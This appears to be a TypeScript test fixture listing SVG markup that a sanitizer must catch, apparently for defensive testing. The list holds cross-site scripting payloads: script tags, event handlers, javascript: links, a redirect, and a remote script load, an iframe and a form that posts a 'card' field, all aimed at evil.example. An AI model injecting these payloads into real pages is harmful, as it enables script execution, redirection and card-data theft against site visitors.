/** SVG images that would do harm if they were inlined in a page. */

/** SVG markup that an attacker may persuade an owner to add, or that a drawing program leaves in a file. */
export const HARMFUL_MARKUP: readonly string[] = [
  '</svg><meta http-equiv="refresh" content="0;url=https://evil.example"><svg>',
  "<script>alert(1)</script>",
  '<script href="https://evil.example/a.js"/>',
  '<g onclick="alert(1)"/>',
  "<g onload\n=alert(1)/>",
  '<g/onmouseover="alert(1)"/>',
  '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  '<a xlink:href="https://evil.example"><rect width="9" height="9"/></a>',
  '<set attributeName="href" to="javascript:alert(1)"/>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<foreignObject><iframe src="https://evil.example"/></foreignObject>',
  '<image href="https://evil.example/pixel.png"/>',
  '<use href="data:image/svg+xml,%3Csvg/%3E"/>',
  "<style>@import url(https://evil.example/a.css)</style>",
  '<h1 xmlns="http://www.w3.org/1999/xhtml">Pay here</h1>',
  '<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input name="card"/></form>',
];

/** Returns an SVG image that contains the given markup. */
export function drawingWith(inside: string): string {
  const namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
  return `<svg ${namespaces} viewBox="0 0 1600 620"><title>A hill</title>${inside}</svg>`;
}
